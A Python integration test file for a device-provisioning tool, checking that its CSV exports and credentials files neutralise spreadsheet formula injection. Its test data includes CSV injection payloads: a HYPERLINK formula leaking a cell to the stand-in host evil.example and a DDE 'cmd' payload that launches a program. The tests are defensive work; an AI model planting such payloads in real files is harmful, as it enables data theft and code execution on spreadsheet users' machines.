"""Every CSV provisiond writes is safe to open in a spreadsheet (OWASP's CSV injection rule):
a cell that starts with = + - @ (or a tab or carriage return) gets a single quote in front and
is quoted. The device export, the credentials file of an import, the demo's credentials
file; the import's own readers take the quote off again, so nothing round-trips wrong."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest

from provisiond.bootstrap import open_container
from provisiond.services.devices import authenticate_device
from provisiond.settings import load_settings
from tests.integration.cli.conftest import Cli, read_creds, write
from tests.integration.cli.test_labels import decode_pdf

# What a customer may type into a device's name or tags. Tabs and carriage returns are
# refused in names and tags (control characters), so they cannot reach an export; the
# unit tests of the CSV writer cover them.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open me")'
NAMES = {
    "F-1": HYPERLINK,
    "F-2": "+cmd|' /C calc'!A0",
    "F-3": "-2+3",
    "F-4": "@SUM(1+1)",
    "F-5": "plain",
    "-A1": "negative serial",
}
TAGS = {
    "F-1": "@SUM(1+1)",
    "F-2": "=1+1",
    "F-3": "+441234567",
    "F-4": "-2+3",
    "F-5": "O'Brien",
    "-A1": "ok",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def source_file(path: Path) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["serial", "name", "site"])
    writer.writerows([serial, NAMES[serial], TAGS[serial]] for serial in NAMES)
    return write(path, buffer.getvalue())


def cells_of(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def assert_nothing_runs(rows: list[list[str]]) -> None:
    risky = [c for row in rows for c in row if c.startswith(FORMULA_STARTS)]
    assert risky == [], f"cells a spreadsheet would run: {risky}"


def test_the_device_export_neutralises_formulas_and_reimports_unchanged(
    cli: Cli, tmp_path: Path
) -> None:
    cli(
        "devices",
        "import",
        str(source_file(tmp_path / "in.csv")),
        "--credentials-out",
        str(tmp_path / "creds.csv"),
    )
    exported = tmp_path / "export.csv"
    cli("devices", "export", "--out", str(exported))
    rows = cells_of(exported)
    assert_nothing_runs(rows)
    by_serial = {r[0]: r for r in rows[1:]}
    assert rows[0] == ["serial", "name", "model", "group", "owner", "site"]
    assert by_serial["F-1"][1] == "'" + HYPERLINK
    assert by_serial["F-1"][5] == "'@SUM(1+1)"
    assert by_serial["F-3"][1:2] == ["'-2+3"]  # a value that is no formula gets it too
    assert by_serial["F-3"][5] == "'+441234567"
    assert by_serial["F-5"][1:2] == ["plain"]
    assert by_serial["F-5"][5] == "O'Brien"
    assert "'-A1" in by_serial  # the serial too
    text = exported.read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""open me"")"' in text  # quoted
    assert '"\'@SUM(1+1)"' in text

    other = Cli(f"sqlite:///{tmp_path / 'other.db'}")
    other("db", "upgrade")
    other("devices", "import", str(exported), "--credentials-out", str(tmp_path / "c2.csv"))
    theirs = other.json("devices", "list", "--all")
    assert isinstance(theirs, dict)
    assert {d["serial"]: (d["name"], d["tags"]["site"]) for d in theirs["items"]} == {
        serial: (NAMES[serial], TAGS[serial]) for serial in NAMES
    }


def test_the_credentials_file_neutralises_serials_and_keeps_secrets_exact(
    cli: Cli, tmp_path: Path
) -> None:
    cli("profiles", "create", "coded", "--claim-proof", "code")
    creds = tmp_path / "creds.csv"
    cli(
        "devices",
        "import",
        str(source_file(tmp_path / "in.csv")),
        "--credentials-out",
        str(creds),
        "--profile",
        "coded",
    )
    rows = cells_of(creds)
    assert_nothing_runs(rows)
    assert {r[0] for r in rows[1:]} == {"F-1", "F-2", "F-3", "F-4", "F-5", "'-A1"}
    secrets = [r[3] for r in rows[1:]]
    assert not [s for s in secrets if not s[0].isalnum()]  # never quoted: exact
    # the secret in the file is the device's: it signs the device in as itself
    token = next(r[3] for r in rows[1:] if r[0] == "'-A1" and r[2] == "access-token")

    async def signed_in_serial() -> str:
        async with open_container(load_settings(database_url=cli.url)) as c:
            device = await authenticate_device(c.uow(), token=token, now=c.now())
            return device.serial

    assert asyncio.run(signed_in_serial()) == "-A1"
    # the labels command reads the file back: the serial's claim code is found and printed
    out = tmp_path / "labels.pdf"
    cli(
        "labels",
        "--out",
        str(out),
        "--codes",
        str(creds),
        "--serial-prefix",
        "-",
        "--base-url",
        "https://provision.example.com",
    )
    code = next(r[3] for r in rows[1:] if r[0] == "'-A1" and r[2] == "claim-code")
    _, _, words = decode_pdf(out)
    assert f"Claim {code}" in words


def test_the_demo_credentials_file_holds_nothing_a_spreadsheet_runs(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PROVISIOND_DATA_DIR", str(tmp_path))
    Cli(database_url)("demo", "--no-serve")
    rows = cells_of(tmp_path / "demo-credentials.csv")
    assert rows[0] == ["serial", "secret"]
    assert len(rows) == 25
    assert_nothing_runs(rows)
    assert read_creds(tmp_path / "demo-credentials.csv")[0]["secret"][0].isalnum()
